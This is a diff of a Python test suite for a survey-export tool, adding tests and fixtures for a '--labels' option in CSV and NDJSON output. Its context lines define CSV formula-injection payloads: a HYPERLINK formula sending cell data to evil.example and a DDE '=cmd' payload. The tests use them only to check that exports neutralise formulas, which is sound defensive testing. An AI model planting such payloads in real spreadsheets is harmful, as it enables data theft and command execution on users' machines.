@@ -37,7 +37,7 @@ REPO = Path(__file__).resolve().parent.parent
 GOLDEN = Path(__file__).resolve().parent / "golden"
 SURVEY_BOT = Path(sys.executable).parent / "survey-bot"
 T0 = datetime(2025, 5, 1, 8, 30, tzinfo=UTC)
-SURVEY, INTAKE, LEDGER, NOTES = "customer_satisfaction", "appointment_intake", "ledger", "notes"
+SURVEY, INTAKE, LEDGER, NOTES, LABELS = "customer_satisfaction", "appointment_intake", "ledger", "notes", "labels"
 SURVEY_DOCUMENT = json.loads((REPO / "forms" / f"{SURVEY}.json").read_text())
 INTAKE_DOCUMENT = json.loads((REPO / "forms" / f"{INTAKE}.json").read_text())
 
@@ -47,6 +47,7 @@ def older_survey() -> dict[str, Any]:
     document = copy.deepcopy(SURVEY_DOCUMENT)
     del document["properties"]["comment"]
     document["properties"]["heard_about"] = {"type": "string", "description": "Where they heard of us."}
+    document["properties"]["satisfaction"]["x-labels"] = {"very_satisfied": "delighted"}  # --labels: per version
     return document
 
 
@@ -65,6 +66,17 @@ NOTES_DOCUMENT = parse_form({
                    "numbers": {"type": "array", "items": {"type": "number"}, "description": "Some numbers."},
                    "phones": {"type": "array", "items": {"type": "string"}, "description": "Phone numbers."}},
 }, NOTES).document
+# Choices with labels (--labels): a oneOf's titles, an array of choices labelled on its items, a label a
+# spreadsheet would take for a formula, and free text that merely looks like a value.
+LABELS_DOCUMENT = parse_form({
+    "title": "Labels", "type": "object",
+    "properties": {"size": {"type": "string", "oneOf": [{"const": "s", "title": "small"},
+                                                        {"const": "xl", "title": "extra large"}]},
+                   "colors": {"type": "array", "items": {"type": "string", "enum": ["red", "dark_blue"],
+                                                         "x-labels": {"red": "crimson"}}},
+                   "level": {"type": "integer", "enum": [1, 2], "x-labels": {"2": "=two"}},
+                   "note": {"type": "string", "x-dtmf": False}},
+}, LABELS).document
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")'
 CMD = "=cmd|' /C calc'!A0"
@@ -99,6 +111,7 @@ VERSIONS = [  # (form_id, version, document, created minutes before T0)
     (INTAKE, "ai-v1", INTAKE_DOCUMENT, 600),
     (LEDGER, "ledger-v1", LEDGER_DOCUMENT, 600),
     (NOTES, "notes-v1", NOTES_DOCUMENT, 600),
+    (LABELS, "labels-v1", LABELS_DOCUMENT, 600),
 ]
 ROWS = [
     Row(1, SURVEY, "cs-v1", 0, "completed",
@@ -159,6 +172,11 @@ ROWS = [
           ({"text": 'a;"' + CMD + ";b"}, "+15551230001"),
           ({"text": "first line\r\n\t-1+2"}, "+15551230001"),
       ])),
+    Row(41, LABELS, "labels-v1", 0, "completed", {"size": "xl", "colors": ["red", "dark_blue"], "level": 2,
+                                                  "note": "very_nice"},
+        {"size": "dtmf", "colors": "ai", "level": "ai", "note": "ai"}),
+    Row(42, LABELS, "labels-v1", 1, "partial", {"size": "s", "colors": []}, {"size": "ai", "colors": "ai",
+                                                                                "level": "declined"}),
 ]
 
 
@@ -192,7 +210,7 @@ async def export(engine: AsyncEngine, form_id: str, kind: str = "csv", **options
     async with engine.connect() as connection:
         plan = await plan_export(connection, selection, lambda: None)
     chunks = (csv_chunks(engine, plan, selection, **options) if kind == "csv"
-              else ndjson_chunks(engine, plan, selection))
+              else ndjson_chunks(engine, plan, selection, **options))
     return "".join([chunk async for chunk in chunks])
 
 
@@ -417,6 +435,35 @@ async def test_ndjson_is_typed_and_nested(engine: AsyncEngine, form_id: str) -> 
         assert records[1]["answers"]["comment"] == HYPERLINK  # JSON cannot carry a formula: no prefix
 
 
+# ---- labels instead of values ------------------------------------------------------------------------------
+
+
+async def test_labels_replace_choice_values_in_csv(engine: AsyncEngine) -> None:
+    plain = {row["response_id"][-1]: row for row in read_csv(await export(engine, SURVEY))}
+    rows = {row["response_id"][-1]: row for row in read_csv(await export(engine, SURVEY, labels=True))}
+    assert plain["1"]["satisfaction"] == "very_satisfied"  # values by default
+    assert rows["1"]["satisfaction"] == "delighted"  # the label of the version the response used (cs-v1)
+    assert rows["2"]["satisfaction"] == "very dissatisfied" and rows["5"]["satisfaction"] == "neutral"
+    assert rows["6"]["topics"] == "quality;website" and rows["6"]["would_recommend"] == ".declined"
+    assert rows["1"]["topics"] == ""  # not applicable stays empty
+    assert (rows["2"]["nps"], rows["2"]["would_recommend"], rows["2"]["comment"]) == ("0", "false", "'" + HYPERLINK)
+    labelled = read_csv(await export(engine, LABELS, labels=True, with_sources=True))
+    assert [(r["size"], r["colors"], r["level"], r["note"]) for r in labelled] == [
+        ("extra large", "crimson;dark blue", "'=two", "very_nice"), ("small", "", ".declined", "")]
+    assert labelled[1]["level.source"] == "declined"
+    assert formula_cells(await export(engine, LABELS, labels=True)) == []
+
+
+async def test_labels_replace_choice_values_in_ndjson(engine: AsyncEngine) -> None:
+    records = [json.loads(line) for line in (await export(engine, LABELS, "ndjson", labels=True)).splitlines()]
+    assert records[0]["answers"] == {"size": "extra large", "colors": ["crimson", "dark blue"], "level": "=two",
+                                     "note": "very_nice"}
+    assert records[1]["answers"] == {"size": "small", "colors": [], "level": None}
+    intake = [json.loads(line) for line in (await export(engine, INTAKE, "ndjson", labels=True)).splitlines()]
+    assert intake[1]["answers"]["visit_reason"] == "new symptoms"
+    assert intake[0]["answers"]["preferred_slot"] == {"date": "2025-05-20", "period": "morning"}
+
+
 def flatten(nested: dict[str, Any], prefix: str = "") -> dict[str, Any]:
     flat: dict[str, Any] = {}
     for key, value in nested.items():
@@ -520,6 +567,15 @@ async def test_cli_unknown_form_exits_2_naming_the_known_ones(engine: AsyncEngin
     message = result.stderr.decode()
     assert "unknown form 'nope'" in message and "ledger" in message and "customer_satisfaction" in message
     assert not out.exists()
+
+
+async def test_cli_labels(engine: AsyncEngine, database_url: str) -> None:
+    result = cli(database_url, SURVEY, "--labels")
+    assert result.returncode == 0, result.stderr
+    assert [row["satisfaction"] for row in read_csv(result.stdout.decode())][:2] == ["delighted", "very dissatisfied"]
+    result = cli(database_url, LABELS, "--labels", "--format", "ndjson")
+    assert result.returncode == 0, result.stderr
+    assert json.loads(result.stdout.splitlines()[0])["answers"]["size"] == "extra large"
 
 
 def test_cli_refuses_a_database_not_at_head(tmp_path: Path) -> None:
